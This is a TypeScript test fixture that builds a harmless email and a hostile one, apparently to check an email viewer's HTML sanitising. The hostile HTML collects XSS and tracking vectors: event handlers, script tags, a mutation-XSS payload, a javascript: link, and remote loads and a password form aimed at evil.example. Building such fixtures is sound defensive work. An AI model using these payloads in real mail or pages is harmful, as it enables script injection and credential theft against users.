import { makePdf } from './make-pdf.ts';
import { makePng } from './make-png.ts';

function lines(content: Buffer): string {
  return content.toString('base64').replaceAll(/.{76}/gu, '$&\r\n');
}

const harmlessHtml =
  '<p>Guten Tag Frau <b>Keller</b>,</p><img src="cid:logo" alt="Logo"><p>anbei der Lageplan.</p>';

/** Everything a mail can try, each of it calling `parent.attacked` or an address elsewhere. */
const hostileHtml = [
  '<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
  '<link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example/b.css"; body { background: url(https://evil.example/c.png) }</style></head>',
  '<body onload="parent.attacked = 1" background="https://evil.example/d.png"><p>Guten Tag</p>',
  '<script>parent.attacked = 2; fetch("https://evil.example/e")</script>',
  '<img src="https://evil.example/f.png" srcset="https://evil.example/g.png 2x" onerror="parent.attacked = 3" alt="Bild">',
  '<iframe src="https://evil.example/h"></iframe><iframe srcdoc="<script>parent.parent.attacked = 4</script>"></iframe>',
  '<object data="https://evil.example/i"></object><embed src="https://evil.example/j"><video src="https://evil.example/k" autoplay></video>',
  '<svg onload="parent.attacked = 5"><script>parent.attacked = 6</script><image href="https://evil.example/l.png"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="parent.attacked = 7"></style></mglyph></table></mtext></math>',
  '<form action="https://evil.example/m"><input name="passwort" autofocus onfocus="parent.attacked = 8"><button>Anmelden</button></form>',
  '<a href="javascript:parent.attacked = 9">Plan</a> <a href="https://evil.example/n" target="_top">Rechnung</a></body></html>',
].join('');

function mailWith(html: string): Buffer {
  return Buffer.from(
    [
      'From: =?utf-8?q?Familie_H=C3=BCber?= <m.hueber@albblick.example>',
      'To: Jana Keller <jana@buero.example>',
      'Date: Mon, 12 Oct 2026 09:15:00 +0200',
      'Subject: =?utf-8?q?Unterlagen_f=C3=BCr_den_Antrag?=',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=b1',
      '',
      '--b1',
      'Content-Type: text/html; charset=utf-8',
      '',
      html,
      '--b1',
      'Content-Type: image/png',
      'Content-ID: <logo>',
      'Content-Disposition: inline; filename=logo.png',
      'Content-Transfer-Encoding: base64',
      '',
      lines(makePng({ width: 60, height: 24 })),
      '--b1',
      'Content-Type: application/octet-stream; name="Lageplan.pdf"',
      'Content-Disposition: attachment; filename="Lageplan.pdf"',
      'Content-Transfer-Encoding: base64',
      '',
      lines(makePdf({ pages: [{ lines: ['Lageplan Lerchenweg'] }] })),
      '--b1--',
      '',
    ].join('\r\n'),
  );
}

/** A mail with formatted text, a picture in it and a plan beside it. */
export const harmlessMail = mailWith(harmlessHtml);

/** The same with everything that must not happen. */
export const hostileMail = mailWith(hostileHtml);
